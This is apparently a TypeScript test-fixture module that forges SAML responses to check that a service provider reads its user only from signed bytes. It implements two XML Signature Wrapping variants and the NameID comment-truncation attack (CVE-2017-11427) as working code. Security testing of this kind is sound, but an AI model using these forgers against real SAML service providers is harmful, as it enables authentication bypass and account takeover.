import { randomUUID } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { EMAIL_CLAIM } from './saml-idp.ts';

// Responses an attacker crafts from one validly signed SAMLResponse (SamlIdp.respond), to prove
// that the service provider reads its user from the signed bytes and nothing else. Each takes
// and returns a base64 SAMLResponse, as the ACS receives it. Where the attacker cannot keep a
// Response-level signature valid, they drop it: a broken one would only get them refused, and
// an SP that wants assertions signed does not require it.

const PROTOCOL_NS = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION_NS = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';

/** The user the attacker wants to be signed in as. */
export interface ForgedUser {
  nameId: string;
  /** Default: nameId. */
  email?: string;
}

/**
 * XSW with two assertions: a copy of the signed assertion, unsigned and naming `user`, next to
 * the intact signed one ('before' it: SPs that verify one signature and then read the first
 * assertion; 'after': those that read the last). The signature still verifies, over the
 * victim's assertion. A safe SP refuses a response with more than one assertion, or at least
 * reads only the assertion the signature covers: never `user`.
 */
export function withSecondUnsignedAssertion(response: string, user: ForgedUser, where: 'before' | 'after' = 'before'): string {
  const document = decode(response);
  dropResponseSignature(document);
  const signed = signedAssertion(document);
  signed.parentNode!.insertBefore(forgedCopy(signed, user), where === 'before' ? signed : signed.nextSibling);
  return encode(document);
}

/**
 * XSW with a wrapper: the Response's only assertion is an unsigned one naming `user`, and the
 * genuine signed assertion sits in the Response's <samlp:Extensions>, which takes elements of
 * any other namespace. An SP that finds the signed element by its ID anywhere in the document (it is
 * there, and verifies) and then reads /Response/Assertion signs `user` in. A safe SP requires
 * the signature on the assertion it reads: the response is refused.
 */
export function signedAssertionUnderUnsignedResponse(response: string, user: ForgedUser): string {
  const document = decode(response);
  const root = document.documentElement!;
  dropResponseSignature(document);
  const signed = signedAssertion(document);
  root.insertBefore(forgedCopy(signed, user), signed);
  // Extensions follow Issuer (and Signature) and precede Status: saml-core §3.2.2.
  const extensions = document.createElementNS(PROTOCOL_NS, `${root.prefix ?? 'samlp'}:Extensions`);
  const issuer = childElements(root, ASSERTION_NS, 'Issuer')[0];
  root.insertBefore(extensions, issuer ? issuer.nextSibling : root.firstChild);
  extensions.appendChild(signed);
  return encode(document);
}

/**
 * The 2018 comment truncation (CVE-2017-11427 and kin): an IdP-signed NameID such as
 * `victim@acme.com.evil.example` (an address the attacker may register at the IdP) gets a comment
 * after `after`: `victim@acme.com<!---->.evil.example`. Exclusive canonicalization drops comments,
 * so the IdP's signature still verifies, exactly as if the IdP had signed the commented NameID.
 * An SP that reads only the first text node sees `victim@acme.com`. A safe SP reads the whole
 * text (`victim@acme.com.evil.example`) or refuses.
 */
export function commentInNameId(response: string, after: string): string {
  const document = decode(response);
  const nameId = nameIdOf(signedAssertion(document));
  const text = nameId.textContent ?? '';
  if (!text.startsWith(after) || text === after) throw new Error(`the NameID ${text} does not continue after ${after}`);
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(document.createTextNode(after));
  nameId.appendChild(document.createComment(''));
  nameId.appendChild(document.createTextNode(text.slice(after.length)));
  return encode(document);
}

function decode(response: string): Document {
  return new DOMParser().parseFromString(Buffer.from(response, 'base64').toString('utf8'), 'text/xml');
}

function encode(document: Document): string {
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64');
}

function childElements(parent: Element, namespace: string, localName: string): Element[] {
  return Array.from(parent.childNodes).filter(
    (node): node is Element =>
      node.nodeType === node.ELEMENT_NODE && (node as Element).namespaceURI === namespace && (node as Element).localName === localName,
  );
}

function dropResponseSignature(document: Document): void {
  const root = document.documentElement!;
  for (const signature of childElements(root, DSIG_NS, 'Signature')) root.removeChild(signature);
}

function signedAssertion(document: Document): Element {
  const found = childElements(document.documentElement!, ASSERTION_NS, 'Assertion').find(
    (a) => childElements(a, DSIG_NS, 'Signature').length,
  );
  if (!found) throw new Error('these fixtures start from a response whose assertion is signed (respond() with signAssertion)');
  return found;
}

function nameIdOf(assertion: Element): Element {
  const subject = childElements(assertion, ASSERTION_NS, 'Subject')[0];
  const nameId = subject && childElements(subject, ASSERTION_NS, 'NameID')[0];
  if (!nameId) throw new Error('the assertion has no Subject/NameID');
  return nameId;
}

/** The signed assertion, word for word, but unsigned, with an ID of its own and `user` as subject. */
function forgedCopy(signed: Element, user: ForgedUser): Element {
  const forged = signed.cloneNode(true) as Element;
  for (const signature of childElements(forged, DSIG_NS, 'Signature')) forged.removeChild(signature);
  forged.setAttribute('ID', `_${randomUUID()}`);
  nameIdOf(forged).textContent = user.nameId;
  for (const statement of childElements(forged, ASSERTION_NS, 'AttributeStatement')) {
    for (const attribute of childElements(statement, ASSERTION_NS, 'Attribute')) {
      if (attribute.getAttribute('Name') !== 'email' && attribute.getAttribute('Name') !== EMAIL_CLAIM) continue;
      for (const value of childElements(attribute, ASSERTION_NS, 'AttributeValue')) value.textContent = user.email ?? user.nameId;
    }
  }
  return forged;
}
